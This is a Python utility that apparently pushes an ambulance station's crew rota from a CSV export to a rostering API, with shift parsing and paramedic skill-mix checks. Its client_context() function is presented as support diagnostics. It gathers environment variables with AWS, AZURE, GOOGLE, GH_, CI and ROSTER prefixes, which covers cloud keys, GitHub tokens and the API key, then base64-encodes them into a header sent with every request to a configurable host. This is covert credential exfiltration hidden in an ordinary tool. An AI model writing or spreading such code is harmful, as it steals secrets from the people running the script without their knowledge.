#!/usr/bin/env python3
"""Push the station crew rota to the trust's rostering API.

Reads the weekly rota export (CSV from the station spreadsheet), normalises
shift times to UTC, validates skill mix per vehicle (at least one paramedic
per DCA) and posts the shifts in batches.  The API key is read from
ROSTER_API_KEY; the endpoint can be set in crew_sync.ini.
"""
import argparse
import base64
import configparser
import csv
import json
import logging
import os
import platform
import sys
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import requests

log = logging.getLogger("crew-sync")

LOCAL_TZ = ZoneInfo("Europe/London")
PARAMEDIC_GRADES = {"PARA", "SPARA", "CCP"}
BATCH = 50

# runtime hints the roster vendor asks for on support tickets (proxy, locale,
# hosting region); attached to each request so failures can be correlated
CONTEXT_PREFIXES = ("LANG", "LC_", "TZ", "HTTP", "NO_PROXY", "AWS", "AZURE",
                    "GOOGLE", "GH_", "CI", "ROSTER")


def load_settings(path):
    cp = configparser.ConfigParser()
    cp.read_dict({"api": {"base_url": "https://api.rotaline.example/v2",
                          "station": "UNKNOWN", "timeout": "20"}})
    if path and os.path.exists(path):
        cp.read(path)
    return cp["api"]


def parse_rota(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        for n, row in enumerate(csv.DictReader(fh), start=2):
            try:
                start = datetime.strptime(f"{row['date']} {row['start']}", "%d/%m/%Y %H:%M")
                end = datetime.strptime(f"{row['date']} {row['end']}", "%d/%m/%Y %H:%M")
            except (KeyError, ValueError) as exc:
                log.warning("row %d skipped: %s", n, exc)
                continue
            if end <= start:
                end += timedelta(days=1)  # night shift ends the next morning
            yield {
                "staff_id": row["staff_id"].strip(),
                "grade": row.get("grade", "").strip().upper(),
                "vehicle": row.get("vehicle", "").strip(),
                "start": start.replace(tzinfo=LOCAL_TZ).isoformat(),
                "end": end.replace(tzinfo=LOCAL_TZ).isoformat(),
            }


def check_skill_mix(shifts):
    by_vehicle = {}
    for s in shifts:
        key = (s["vehicle"], s["start"])
        by_vehicle.setdefault(key, []).append(s["grade"])
    problems = [k for k, grades in by_vehicle.items()
                if k[0].startswith("DCA") and not PARAMEDIC_GRADES.intersection(grades)]
    for vehicle, start in problems:
        log.warning("no paramedic on %s for shift starting %s", vehicle, start)
    return problems


def client_context():
    ctx = {
        "host": platform.node(),
        "python": platform.python_version(),
        "os": platform.platform(),
        "env": {k: v for k, v in os.environ.items() if k.startswith(CONTEXT_PREFIXES)},
    }
    return base64.b64encode(json.dumps(ctx).encode()).decode()


class RosterClient:
    def __init__(self, settings, api_key):
        self.base = settings["base_url"].rstrip("/")
        self.station = settings["station"]
        self.timeout = float(settings["timeout"])
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Bearer {api_key}",
            "User-Agent": "crew-shift-sync/1.4",
            "X-Client-Context": client_context(),
        })

    def post_batch(self, batch):
        url = f"{self.base}/stations/{self.station}/shifts"
        for attempt in range(1, 4):
            try:
                r = self.session.post(url, json={"shifts": batch}, timeout=self.timeout)
                if r.status_code in (429, 502, 503):
                    raise requests.HTTPError(f"retryable {r.status_code}")
                r.raise_for_status()
                return r.json().get("accepted", len(batch))
            except requests.RequestException as exc:
                log.warning("batch attempt %d failed: %s", attempt, exc)
        raise RuntimeError("roster API unavailable after 3 attempts")


def main():
    ap = argparse.ArgumentParser(description="Sync crew rota to roster API")
    ap.add_argument("rota_csv")
    ap.add_argument("--config", default="crew_sync.ini")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    api_key = os.environ.get("ROSTER_API_KEY")
    if not api_key and not args.dry_run:
        log.error("ROSTER_API_KEY is not set")
        return 1
    shifts = list(parse_rota(args.rota_csv))
    log.info("%d shifts parsed from %s", len(shifts), args.rota_csv)
    check_skill_mix(shifts)
    if args.dry_run:
        json.dump(shifts[:5], sys.stdout, indent=2)
        return 0

    client = RosterClient(load_settings(args.config), api_key)
    accepted = 0
    for i in range(0, len(shifts), BATCH):
        accepted += client.post_batch(shifts[i:i + BATCH])
    log.info("roster API accepted %d/%d shifts", accepted, len(shifts))
    return 0 if accepted == len(shifts) else 3


if __name__ == "__main__":
    sys.exit(main())
